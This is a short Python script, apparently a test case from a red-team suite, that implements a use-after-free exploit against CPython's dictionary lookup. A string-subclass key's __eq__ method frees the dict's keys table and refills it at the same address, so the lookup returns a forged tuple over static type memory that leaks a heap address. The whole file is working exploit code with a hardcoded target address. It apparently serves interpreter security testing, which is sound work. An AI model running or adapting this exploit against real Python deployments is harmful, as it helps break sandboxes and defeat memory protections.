# technique: (leak form of 01) same dict-lookup ABA (str-only keys object freed by a str-subclass key's __eq__, a general one cloned at the same address, found-path value read with the old layout = a hash we choose): the forged pointer aims 0xf8 into the static FloatInfoType, whose tp_base word makes it a tuple whose ob_size is the type's tp_dict pointer (red-team pass 80)
# expect: any
FAKE = 0x1183580 + 0xf8   # inside static FloatInfoType: +8 is its tp_base (&PyTuple_Type), +16 its tp_dict
keep = []

def attempt(n):
    s_target = "tgt%d_" % n + "x" * 10
    H = hash(s_target)
    class FakeH:
        def __init__(self, h): self.h = h
        def __hash__(self): return self.h
        def __eq__(self, o): return self is o
    # other: general table, log2 size 6 (22..42 entries): entry 1's hash = FAKE, entry 3's key = s_target
    other = {}
    other[FakeH(7)] = 0
    other[FakeH(FAKE)] = 1
    other[FakeH(9)] = 2
    other[s_target] = 3
    for i in range(30):
        other[FakeH(1000 + i)] = i
    # d: str-only table, log2 size 7 (43..85 entries), s_target at entry index 1
    d = {}
    d["a%d" % n] = 0
    d[s_target] = 1
    for i in range(50):
        d["f%d_%d" % (n, i)] = i
    state = {"calls": 0}
    class K(str):
        def __hash__(self): return H
        def __eq__(self, o):
            state["calls"] += 1
            if state["calls"] == 1:
                d.clear()            # frees the 1520-byte str-only keys object
                d.update(other)      # clone_combined_dict_keys: a 1104-byte general one, same address
                return True
            return False             # the address was not reused: the lookup restarted
    r = d.get(K("zz"))
    return state["calls"], r

for n in range(200):
    calls, r = attempt(n)
    if calls == 1:
        keep.append(r)           # a fake tuple over static memory: never released
        print("fake", type(r).__name__, "len = FloatInfoType.tp_dict address:", hex(len(r)))
        raise RuntimeError("heap address leaked: %#x" % len(r))
print("address never reused")
